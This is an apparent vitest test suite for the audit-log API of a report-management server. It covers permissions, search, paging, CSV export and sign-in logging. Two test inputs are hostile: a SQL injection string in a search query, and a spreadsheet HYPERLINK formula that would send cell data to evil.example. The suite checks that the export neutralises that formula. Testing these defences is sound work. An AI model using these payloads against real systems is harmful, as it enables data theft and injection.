import { afterAll, beforeAll, expect, test } from 'vitest'
import { FIRST_UNIT } from '@gongping/server/store/units.ts'
import type { AuditPage } from '@gongping/shared/protocol/audit.ts'
import { auditWord } from '@gongping/shared/workflow/audit-params.ts'
import { authenticatorCode } from '../support/authenticator.ts'
import { type Caller, type HttpOffice, PASSWORD, httpOffice, json } from '../support/http-office.ts'

let office: HttpOffice
let chief: Caller
let clerk: Caller
let unitAdmin: Caller
/** The unit that 赵敏 administers. */
let bureau: string
beforeAll(async () => {
  office = await httpOffice()
  chief = await office.hire('李娟', 'admin')
  clerk = await office.hire('王强', 'member')
  unitAdmin = await office.hire('赵敏', 'member')
  bureau = await idOf(await chief('/api/units', json({ name: '清溪县财政局' })))
  const zhao = await personId('赵敏')
  const moved = await chief(`/api/people/${zhao}`, json({ unitId: bureau, isUnitAdmin: true }, 'PATCH'))
  expect(moved.status).toBe(200)
})
afterAll(() => office[Symbol.asyncDispose]())

const idOf = async (answer: Response) => ((await answer.json()) as { id: string }).id
const personId = async (name: string) => (await office.identity.findPerson(name))?.id ?? ''

async function search(as: Caller, query: Record<string, string> = {}): Promise<AuditPage> {
  const answer = await as(`/api/audit?${new URLSearchParams(query).toString()}`)
  expect(answer.status).toBe(200)
  return (await answer.json()) as AuditPage
}
const verbs = async (as: Caller, query: Record<string, string>) =>
  (await search(as, { limit: '5', ...query })).entries.map(({ verb }) => verb)

const signIn = (name: string, password: string) => office.request('/api/session', json({ name, password }))

async function createReport(as: Caller, title: string): Promise<string> {
  const wanted = { template: 'hunan-department@2022.1', title, year: 2024, unit: { name: '清溪县财政局' } }
  return idOf(await as('/api/reports', json(wanted)))
}

test('[WF55] an administrator of the server sees all, one of a unit what concerns the unit, nobody else anything', async () => {
  const report = await createReport(unitAdmin, '财政局自评报告')
  const elsewhere = await createReport(clerk, '别的单位的报告')
  const seen = async (as: Caller) => (await search(as, { verb: 'report.created' })).entries.map((entry) => entry.report?.id)
  expect(await seen(chief)).toEqual([elsewhere, report])
  expect(await seen(unitAdmin)).toEqual([report])
  expect(await search(unitAdmin, { report: elsewhere })).toEqual({ entries: [], more: false })
  for (const path of ['/api/audit', '/api/audit/export']) {
    expect((await clerk(path)).status).toBe(403)
    expect((await office.request(path)).status).toBe(401)
  }
})

test('[WF55] words are looked for in names, titles, units, verbs and addresses of today', async () => {
  const report = await createReport(clerk, '档案数字化绩效自评')
  await chief(`/api/reports/${report}/status`, json({ status: 'locked' }, 'PUT'))
  expect(await verbs(chief, { text: '档案数字化' })).toEqual(['report.locked', 'report.created'])
  expect(await verbs(chief, { text: 'LOCKED a Report' })).toEqual(['report.locked'])
  expect(await verbs(chief, { text: '清溪县财', verb: 'unit.made' })).toEqual(['unit.made'])
  expect(
    new Set((await search(chief, { text: '王强' })).entries.flatMap(({ person, subject }) => [person?.id, subject?.id])),
  ).toContain(await personId('王强'))
  expect(await search(chief, { text: '没有这样的东西' })).toEqual({ entries: [], more: false })
  expect(await search(chief, { text: `%' or 1=1 --` })).toEqual({ entries: [], more: false })
})

test('[WF55] page by page nothing is left out and nothing comes twice', async () => {
  const all = (await search(chief, { limit: '200' })).entries.map(({ seq }) => seq)
  const paged: number[] = []
  for (let page = await search(chief, { limit: '3' }); ;) {
    paged.push(...page.entries.map(({ seq }) => seq))
    if (!page.more) break
    page = await search(chief, { limit: '3', before: String(paged.at(-1)) })
  }
  expect(paged).toEqual(all)
})

test('[WF55] what is no filter is named, and nothing is looked for', async () => {
  const wrong = [
    { limit: '201' },
    { limit: 'all' },
    { before: '0' },
    { before: '99999999999999999999' },
    { from: 'yesterday' },
    { verb: 'report.eaten' },
    { text: 'x'.repeat(101) },
    { text: '  ' },
    { person: 'x'.repeat(101) },
  ]
  for (const query of wrong) {
    const answer = await chief(`/api/audit?${new URLSearchParams(query).toString()}`)
    const [field] = Object.keys(query)
    expect([query, answer.status, await answer.json()]).toMatchObject([query, 422, { code: 'body-invalid', params: { field } }])
  }
})

test('[WF54] the table is for spreadsheets: in UTF-8 that they recognise, and nothing in it is a formula', async () => {
  const report = await createReport(clerk, '=HYPERLINK("http://evil.example/?"&A1,"点这里")')
  await chief(`/api/people/${await personId('王强')}`, json({ display: '+SUM(1,2)' }, 'PATCH'))
  const answer = await chief(`/api/audit/export?report=${report}&language=zh`)
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  const disposition = decodeURIComponent(answer.headers.get('content-disposition') ?? '')
  expect(disposition).toMatch(/^attachment; .*UTF-8''审计日志-\d{8}\.csv$/)
  const bytes = new Uint8Array(await answer.arrayBuffer())
  expect(bytes.slice(0, 3)).toEqual(Uint8Array.of(0xef, 0xbb, 0xbf))
  const [head, line, rest] = new TextDecoder().decode(bytes).split('\r\n')
  expect(head?.startsWith('"序号","时间（北京时间）","操作人"')).toBe(true)
  expect(line).toContain(`"'+SUM(1,2)","新建报告"`)
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点这里"")"`)
  expect(rest).toBe('')
})

test('[WF54] the table has every entry that matches once, however many, and that it was made is noted first', async () => {
  for (let time = 0; time < 2100; time++)
    await office.store.audit.record({ personId: '', address: '10.7.7.7' }, { verb: 'session.locked' })
  const table = await (await chief('/api/audit/export?text=10.7.7.7')).text()
  const numbers = table
    .split('\r\n')
    .slice(1, -1)
    .map((line) => Number(/^"(\d+)"/.exec(line)?.[1]))
  expect(numbers).toHaveLength(2100)
  expect(numbers).toEqual(Array.from(new Set(numbers)).toSorted((a, b) => b - a))
  expect(await verbs(chief, { limit: '1' })).toEqual(['audit.exported'])
})

test('[WF57] who signed in is noted; who could not, only where there is a person of that name', async () => {
  const wang = await personId('王强')
  await signIn('王强', '不是这个密码')
  await signIn('我把密码打在这里了', '不是这个密码')
  await signIn('王强', PASSWORD)
  const [opened, unknown, refused] = (await search(chief, { limit: '3' })).entries
  expect(opened).toMatchObject({ verb: 'session.opened', person: { id: wang } })
  expect(unknown).toMatchObject({ verb: 'session.refused', person: null, subject: null, params: { reason: 'credentials-wrong' } })
  expect(refused).toMatchObject({ verb: 'session.refused', person: null, subject: { id: wang } })
  expect(JSON.stringify((await search(chief, { limit: '200' })).entries)).not.toContain('密码打在')
})

test('[WF72] a sign-in says by what, an accepted invitation by whom, an invitation for whom and a rename both names', async () => {
  await using other = await httpOffice()
  const admin = await other.hire('主任', 'admin')
  const li = await other.hire('李娟', 'member')
  const signIn = async (code?: string) =>
    expect((await other.request('/api/session', json({ name: '李娟', password: PASSWORD, code }))).status).toBe(200)
  await signIn()
  const factor = '/api/profile/second-factor'
  const offer = (await (await li(factor, json({ password: PASSWORD }))).json()) as { secret: string }
  const confirmed = await li(factor, json({ code: authenticatorCode(offer.secret) }, 'PUT'))
  const { recoveryCodes } = (await confirmed.json()) as { recoveryCodes: string[] }
  for (const code of [authenticatorCode(offer.secret, 1), recoveryCodes[0]]) await signIn(code)
  expect((await admin(`/api/units/${FIRST_UNIT}`, json({ name: '清溪县财政局' }, 'PATCH'))).status).toBe(200)
  const terms = {
    display: '赵敏（admin）',
    unitId: FIRST_UNIT,
    divisionId: null,
    post: '科员、会计 兼出纳',
    role: 'member',
    isUnitAdmin: false,
  }
  const made = (await (await admin('/api/invitations', json(terms))).json()) as { token: string; invitation: { id: string } }
  const account = { token: made.token, name: 'zhaomin', display: '赵敏', password: PASSWORD }
  expect((await other.request('/api/invitations/accept', json(account))).status).toBe(201)

  const { entries } = (await (await admin('/api/audit?limit=100')).json()) as AuditPage
  const of = (verb: string) => entries.filter((entry) => entry.verb === verb)
  const methods = of('session.opened').filter(({ person }) => person?.display === '李娟')
  expect(methods.map(({ params }) => params['method'])).toEqual(['password recovery-code', 'password code', 'password'])
  expect(methods.slice(0, 2).map(({ params }) => auditWord('method', params['method'] ?? '', 'zh'))).toEqual([
    '密码、备用码',
    '密码、动态验证码',
  ])
  const invitation = made.invitation.id
  expect(of('invitation.made')[0]?.params).toEqual({
    invitation,
    invited: '赵敏（admin）',
    post: '科员、会计 兼出纳',
    role: 'member',
  })
  for (const verb of ['invitation.accepted', 'person.placed', 'person.activated']) {
    expect(of(verb)[0]).toMatchObject({ person: { display: '赵敏' }, subject: { display: '赵敏' } })
  }
  expect(of('unit.renamed')[0]?.params).toEqual({ from: '本单位', to: '清溪县财政局' })
})

test('[WF57] a lock-out is noted once, however often it is run into', async () => {
  const answers = []
  for (let time = 0; time < 40; time++) {
    answers.push((await office.request('/api/session', json({ name: '赵敏', password: '不是这个密码' }))).status)
  }
  expect(answers.at(-1)).toBe(429)
  const zhao = await personId('赵敏')
  const entries = (await search(chief, { person: zhao, limit: '200' })).entries.filter(({ person }) => person === null)
  const count = (verb: string) => entries.filter((entry) => entry.verb === verb).length
  expect(count('session.locked')).toBe(1)
  expect(count('session.refused')).toBe(answers.filter((status) => status === 401).length)
})

test('[WF51] nothing is handed out, and nobody is signed in, whose entry could not be written', async () => {
  const report = await createReport(clerk, '导出试验')
  // Whoever changes something finds that the log takes nothing any more.
  await office.store.db.schema.createIndex('no_more').unique().on('audit').column('seq').execute()
  await office.store.db.updateTable('audit_head').set({ seq: 0 }).execute()
  const exported = await clerk(`/api/reports/${report}/export?format=txt`)
  expect([exported.status, exported.headers.get('content-disposition')]).toEqual([500, null])
  const table = await chief('/api/audit/export')
  expect([table.status, table.headers.get('content-disposition')]).toEqual([500, null])
  const signedIn = await office.request('/api/session', json({ name: '王强', password: PASSWORD }))
  expect([signedIn.status, signedIn.headers.getSetCookie()]).toEqual([500, []])
  const wang = await personId('王强')
  const accountChanges: readonly [path: string, request: RequestInit][] = [
    [`/api/people/${wang}/password`, json({ password: '窗台上的三盆兰花' }, 'PUT')],
    [`/api/people/${wang}/sessions`, { method: 'DELETE' }],
    [`/api/people/${wang}`, json({ display: '王强强' }, 'PATCH')],
    [
      '/api/invitations',
      json({ display: '赵敏', unitId: 'first', divisionId: null, post: '', role: 'member', isUnitAdmin: false }),
    ],
  ]
  for (const [path, request] of accountChanges) expect([path, (await chief(path, request)).status]).toEqual([path, 500])
  const locked = await chief(`/api/reports/${report}/status`, json({ status: 'locked' }, 'PUT'))
  expect(locked.status).toBe(500)
  expect(await (await chief(`/api/reports/${report}/status`)).json()).toMatchObject({ status: 'open' })
})
